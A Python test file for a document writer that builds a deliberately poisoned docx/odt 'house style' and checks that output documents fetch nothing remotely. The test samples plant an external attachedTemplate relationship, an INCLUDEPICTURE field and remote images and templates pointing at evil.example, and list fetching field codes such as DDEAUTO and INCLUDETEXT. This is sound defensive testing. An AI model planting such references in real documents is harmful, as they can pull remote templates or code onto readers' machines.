"""A house style brings nothing from elsewhere into a document: nothing is fetched when it is opened."""

from __future__ import annotations

import re
from pathlib import Path
from xml.etree import ElementTree

import pytest

from amk.document.blocks import Document, Heading, Paragraph
from amk.formats.print.office import archive_of, parts_of, write
from amk.formats.print.pandoc import Target
from amk.formats.print.remote import without_remote

pytest.importorskip("pypandoc")

LETTER = Document("Brief", "nl", (Heading("Brief"), Paragraph("Geachte heer, mevrouw")))
EVIL = b"http://evil.example/"
RELATION = (
    b'<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="http://evil.example/%s" TargetMode="External"/></Relationships>'
)


def planted(target: Target, folder: Path) -> Path:
    """A house style that calls elsewhere in every way that such a file knows."""
    parts = parts_of(write(LETTER, target))
    if target == "docx":
        settings = parts["word/settings.xml"]
        attached = b'<w:attachedTemplate r:id="rId90" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
        parts["word/settings.xml"] = settings.replace(b"</w:settings>", attached + b"</w:settings>")
        parts["word/_rels/settings.xml.rels"] = (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + RELATION % (90, b"attachedTemplate", b"t.dotm")
        )
        footer = next(name for name in parts if re.fullmatch(r"word/footer\d*\.xml", name))
        field = (
            b'<w:r><w:instrText> INCLUDEPICTURE "http://evil.example/p.png" \\d </w:instrText></w:r></w:p>'
        )
        parts[footer] = parts[footer].replace(b"</w:p>", field, 1)
        parts[f"word/_rels/{Path(footer).name}.rels"] = parts["word/_rels/settings.xml.rels"].replace(
            b"attachedTemplate", b"image"
        )
    else:
        image = b'<draw:frame><draw:image xlink:href="http://evil.example/l.png"/></draw:frame>'
        parts["styles.xml"] = parts["styles.xml"].replace(b"</text:p>", image + b"</text:p>", 1)
        template = b'<meta:template xlink:href="http://evil.example/t.ott"/></office:meta>'
        parts["meta.xml"] = parts["meta.xml"].replace(b"</office:meta>", template)
        parts["Basic/Standard/script-lb.xml"] = b"<x/>"
    style = folder / f"huis.{target}"
    style.write_bytes(archive_of(parts))
    return style


@pytest.mark.parametrize("target", ["docx", "odt"])
def test_a_document_in_a_house_style_calls_nowhere(target: Target, tmp_path: Path) -> None:
    style = planted(target, tmp_path)
    assert any(EVIL in part for part in parts_of(style.read_bytes()).values())

    parts = parts_of(write(LETTER, target, style))

    assert not [name for name, part in parts.items() if re.search(rb"attachedTemplate|INCLUDEPICTURE", part)]
    # What a field said may still be read in a footer; nothing leads there.
    assert not [name for name, part in parts.items() if EVIL in part and "footer" not in name]
    assert not [name for name in parts if name.startswith("Basic/")]
    for name, part in parts.items():
        if name.endswith((".xml", ".rels")):
            ElementTree.fromstring(part)


def test_an_address_that_a_reader_may_click_stays() -> None:
    relation = RELATION % (1, b"hyperlink", b"over-ons")
    link = b'<text:a xlink:href="http://evil.example/over-ons">over ons</text:a>'

    kept = without_remote(
        {"word/_rels/document.xml.rels": relation, "content.xml": link, "Pictures/a.png": b"\x89"}
    )

    assert kept == {"word/_rels/document.xml.rels": relation, "content.xml": link, "Pictures/a.png": b"\x89"}


@pytest.mark.parametrize("field", [b"INCLUDETEXT", b"DDEAUTO", b"link", b"DATABASE"])
def test_a_field_that_fetches_becomes_one_that_does_not(field: bytes) -> None:
    told = without_remote({"word/header1.xml": b'<w:fldSimple w:instr="%s c:/x"/>' % field})

    assert told["word/header1.xml"] == b'<w:fldSimple w:instr="QUOTE c:/x"/>'


def test_a_picture_that_lies_in_the_style_stays() -> None:
    picture = b'<draw:image xlink:href="Pictures/logo.png"/><draw:image xlink:href="./Object 1"/>'

    assert without_remote({"styles.xml": picture}) == {"styles.xml": picture}
